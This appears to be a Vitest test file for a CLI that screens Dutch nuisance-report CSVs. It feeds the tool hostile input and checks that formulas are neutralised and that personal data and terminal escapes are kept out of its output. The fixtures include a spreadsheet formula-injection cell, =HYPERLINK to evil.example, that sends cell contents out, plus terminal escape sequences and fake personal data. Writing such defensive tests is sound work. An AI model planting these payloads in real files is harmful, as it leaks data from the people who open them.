import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import Database from 'better-sqlite3';
import { runCli, tempDir } from '../helpers.js';

/**
 * Hostile input: formula cells, personal data in free text, a 100 KB field, control characters
 * and terminal escapes. Every file the tool writes is scanned.
 */
const NOW = '2026-11-23T06:00:00+01:00';
const PII = /jan\.jansen@example\.nl|0612345678|06-12345678|Piet Pietersen|BSN 123456782|geheime-tekst/i;
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?(\d+([.,]\d+)?|[.,]\d+)([eE][+-]?\d+)?$/;

const q = (v: string) => `"${v.replace(/"/g, '""')}"`;

function hostileCsv(): string {
  const header = 'id,datum,categorie,omschrijving,x,y,straat,huisnummer,postcode,woonplaats,buurtcode,melder';
  const rows = [header];
  const evilStreet = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
  for (let i = 0; i < 40; i++) {
    const week = String(1 + (i % 20)).padStart(2, '0');
    const text =
      i === 0 ? `geheime-tekst ${'x'.repeat(100_000)}` : `Piet Pietersen deals drugs, BSN 123456782, bel 0612345678 \u0007\u001b[31m`;
    const street = i % 3 !== 0 ? evilStreet : '@SUM(1+1)\u001b[2J';
    rows.push(
      [
        `H-${i}`,
        `2026-${week === '00' ? '01' : `0${1 + (i % 9)}`}-${String(1 + (i % 27)).padStart(2, '0')} 22:${String(i % 60).padStart(2, '0')}`,
        i % 3 === 0 ? '-Drugsoverlast' : '+Jongerenoverlast',
        q(text),
        String(176000 + (i % 7) * 3),
        String(317000 + (i % 5) * 3),
        q(street),
        i % 4 === 0 ? '12' : '',
        i % 4 === 0 ? '6211AB' : '',
        'Maastricht',
        'BU09350000',
        i % 5 === 0 ? 'jan.jansen@example.nl' : `melder${i}@example.nl`,
      ].join(','),
    );
  }
  // A dwelling with a formula in its street, reported by neighbours.
  for (let i = 0; i < 8; i++) {
    rows.push(
      [
        `W-${i}`,
        `2026-0${1 + i}-10 21:00`,
        'Woonoverlast',
        '"bewoner dreigt"',
        '177000',
        '318000',
        '"-2+3 Kerkstraat"',
        '5',
        '6221AB',
        'Maastricht',
        'BU09350006',
        `buur${i % 3}@example.nl`,
      ].join(','),
    );
  }
  return `${rows.join('\n')}\n`;
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((f) => (statSync(join(dir, f)).isDirectory() ? filesUnder(join(dir, f)) : [join(dir, f)]));
}

describe('hostile input', () => {
  let dir: string;
  let out: string;
  let db: string;
  let stdout: string;
  beforeAll(async () => {
    dir = tempDir();
    out = join(dir, 'out');
    db = join(dir, 'h.sqlite');
    writeFileSync(join(dir, 'hostile.csv'), hostileCsv());
    const r = await runCli(['screen', join(dir, 'hostile.csv'), '--now', NOW, '--out', out, '--db', db, '--max-reject-rate', '100%']);
    expect(r.stderr).toBe('');
    stdout = r.stdout;
    const e = await runCli(['export', '--db', db, '--out', join(dir, 'teams'), '--include-dwellings']);
    expect(e.code).toBe(0);
  });

  it('finds the hostile hotspots (so their fields reach the outputs)', () => {
    const json = JSON.parse(readFileSync(join(out, 'screening.json'), 'utf8'));
    expect(json.hotspots.length).toBeGreaterThanOrEqual(2);
    expect(json.hotspots.some((h: { kind: string }) => h.kind === 'dwelling')).toBe(true);
  });

  it('writes no personal data or free text to any file, history included', () => {
    const files = [...filesUnder(out), ...filesUnder(join(dir, 'teams'))];
    expect(files.length).toBeGreaterThanOrEqual(6);
    for (const f of files) expect(readFileSync(f, 'utf8'), f).not.toMatch(PII);
    const sqlite = new Database(db, { readonly: true });
    for (const { name } of sqlite.prepare("SELECT name FROM sqlite_master WHERE type = 'table'").all() as Array<{ name: string }>) {
      for (const row of sqlite.prepare(`SELECT * FROM "${name}"`).all() as Array<Record<string, unknown>>) {
        for (const v of Object.values(row)) expect(String(v), name).not.toMatch(PII);
      }
    }
    sqlite.close();
    expect(stdout).not.toMatch(PII);
  });

  it('neutralises every CSV text cell that starts with = + - @ tab or CR', () => {
    const csvs = [...filesUnder(out), ...filesUnder(join(dir, 'teams'))].filter((f) => f.endsWith('.csv'));
    let checked = 0;
    for (const f of csvs) {
      const text = readFileSync(f, 'utf8').replace(/^\uFEFF/, '');
      const rows: string[][] = parse(text, { delimiter: f.includes('teams') ? ';' : ',', relax_column_count: true });
      for (const row of rows)
        for (const cell of row) {
          checked++;
          if (FORMULA.test(cell)) expect(NUMBER.test(cell), `${f}: ${cell}`).toBe(true);
        }
    }
    expect(checked).toBeGreaterThan(100);
    expect(readFileSync(join(out, 'hotspots.csv'), 'utf8')).toContain(`'=HYPERLINK`);
  });

  it('keeps control characters and terminal escapes out of short fields and the terminal', () => {
    expect(stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    for (const f of filesUnder(out)) expect(readFileSync(f, 'utf8'), f).not.toMatch(/\u001b|\u0007|\\u001b|\\u0007/);
  });

  it('shows only the offending cell, clipped, in rejects.csv', () => {
    for (const line of readFileSync(join(out, 'rejects.csv'), 'utf8').split('\n')) expect(line.length).toBeLessThan(400);
  });
});
